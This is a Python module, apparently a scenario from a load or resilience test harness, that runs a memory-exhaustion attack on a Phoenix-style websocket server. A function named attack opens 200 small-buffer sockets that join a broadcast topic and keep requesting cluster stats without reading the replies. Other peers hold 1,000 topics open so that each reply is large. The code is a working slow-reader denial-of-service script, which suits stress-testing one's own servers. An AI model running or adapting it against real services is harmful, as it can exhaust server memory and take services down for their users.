"""Subscribers that never read: 200 sockets with the smallest receive buffers join `patterns:stats`,
which is broadcast to, and ask for the cluster's 1,000 topics over and over."""

import asyncio

from frames import push
from peer import Peer, over_and_over
from tally import Tally
from target import Target

SOCKETS = 200
HOLDERS, TOPICS_A_HOLDER = 10, 100
RECEIVE_BUFFER_BYTES = 2_048
QUESTION = push("3", "patterns:stats", "get_cluster_connection_stats")
BATCH = 16


async def attack(target: Target, tally: Tally) -> None:
    holders = (hold(target, tally, number) for number in target.share(HOLDERS))
    deaf = (ask(target, tally, number) for number in target.share(SOCKETS))
    await asyncio.gather(*holders, *deaf)


async def hold(target: Target, tally: Tally, number: int) -> None:
    """Keeps the topics present that the answers list."""
    async def body(peer: Peer) -> None:
        await peer.upgrade()
        names = (f"deaf:{number}:{topic}" for topic in range(TOPICS_A_HOLDER))
        await peer.send(b"".join(push("1", name, "phx_join") for name in names), TOPICS_A_HOLDER)
        await peer.drain()

    await over_and_over(target, tally, body)


async def ask(target: Target, tally: Tally, number: int) -> None:
    """Half ask many questions at once, which gets them closed; half one by one, which holds as
    much of the server's memory as it gives for as long as it gives it."""
    questions = BATCH if number % 4 < 2 else 1

    async def body(peer: Peer) -> None:
        await peer.upgrade()
        await peer.send(push("1", "patterns:stats", "phx_join"), 1)
        while True:
            await peer.send(QUESTION * questions, questions)
            await asyncio.sleep(0.05 * questions)

    await over_and_over(target, tally, body, RECEIVE_BUFFER_BYTES)
